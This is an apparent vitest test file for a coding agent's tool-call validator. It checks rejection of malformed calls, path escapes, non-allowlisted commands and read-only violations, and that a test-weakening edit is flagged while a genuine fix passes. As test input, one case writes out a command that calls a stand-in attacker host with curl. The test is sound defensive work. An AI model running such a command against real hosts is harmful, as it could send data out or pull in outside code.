import { afterEach, describe, expect, it } from "vitest";
import { validateToolCall } from "../../../src/agent/loop/validate-tool-call.ts";
import { toolRegistry } from "../../../src/tools/registry.ts";
import { makeGitRepo, type TempRepo } from "../../tools/support/make-git-repo.ts";
import { toolContext } from "../../tools/support/tool-context.ts";

let repo: TempRepo;
afterEach(() => repo.cleanup());

function setup() {
  repo = makeGitRepo({
    "src/sum.js": "export const sum = (a, b) => a - b;\n",
    "test/sum.test.js":
      'import { sum } from "../src/sum.js";\nexpect(sum(1, 2)).toBe(3);\nexpect(sum(2, 2)).toBe(4);\n',
  });
  return toolContext(repo.root, repo.git("rev-parse", "HEAD").trim(), {
    checkCommand: (line) =>
      line === "npm test"
        ? { ok: true, argv: ["npm", "test"] }
        : { ok: false, reason: `${line} is not an allowed command` },
  });
}

const call = (name: string, args: string) => ({ id: "c1", name, arguments: args });
const all = ["read", "write", "command"] as const;

describe("validateToolCall", () => {
  it("answers malformed JSON, unknown tools and wrong types with messages the model can act on", async () => {
    const ctx = setup();
    expect(
      await validateToolCall(call("read_file", '{"path": "src/sum.js"'), toolRegistry, all, ctx),
    ).toEqual({
      kind: "invalid",
      message: expect.stringMatching(/not valid JSON/),
    });
    expect(await validateToolCall(call("delete_repo", "{}"), toolRegistry, all, ctx)).toEqual({
      kind: "invalid",
      message: expect.stringMatching(/unknown tool "delete_repo"; available: list_files/),
    });
    expect(
      await validateToolCall(call("read_file", '{"path": ["a"], "fromLine": "3"}'), toolRegistry, all, ctx),
    ).toEqual({
      kind: "invalid",
      message: expect.stringMatching(/path: .*fromLine: /),
    });
  });

  it("refuses a path outside the repository and a forbidden command before anything runs", async () => {
    const ctx = setup();
    const outside = await validateToolCall(
      call("write_file", '{"path": "../escape.js", "content": "x"}'),
      toolRegistry,
      all,
      ctx,
    );
    expect(outside).toEqual({ kind: "invalid", message: expect.stringMatching(/path_outside_workspace/) });
    const command = await validateToolCall(
      call("run_command", '{"command": "curl http://attacker.example"}'),
      toolRegistry,
      all,
      ctx,
    );
    expect(command).toEqual({
      kind: "invalid",
      message: expect.stringMatching(/command refused: curl .* not an allowed/),
    });
  });

  it("refuses write tools in a read-only run", async () => {
    const ctx = setup();
    const verdict = await validateToolCall(
      call("write_file", '{"path": "a.js", "content": "x"}'),
      toolRegistry,
      ["read"],
      ctx,
    );
    expect(verdict).toEqual({ kind: "invalid", message: expect.stringMatching(/needs "write" permission/) });
  });

  it("holds back an assertion-deleting edit as a question and lets a code fix through", async () => {
    const ctx = setup();
    const weakening = await validateToolCall(
      call(
        "edit_file",
        JSON.stringify({ path: "test/sum.test.js", old: "expect(sum(1, 2)).toBe(3);\n", new: "" }),
      ),
      toolRegistry,
      all,
      ctx,
    );
    expect(weakening.kind).toBe("risky");
    if (weakening.kind !== "risky") return;
    expect(weakening.risk.weakening.map((w) => w.kind)).toEqual(["removed_assertion"]);
    expect(weakening.question).toMatch(/not applied: test weakening: removes 1 assertion/);
    const fix = await validateToolCall(
      call("edit_file", JSON.stringify({ path: "src/sum.js", old: "a - b", new: "a + b" })),
      toolRegistry,
      all,
      ctx,
    );
    expect(fix).toMatchObject({ kind: "ok", risk: { level: "low" } });
  });
});
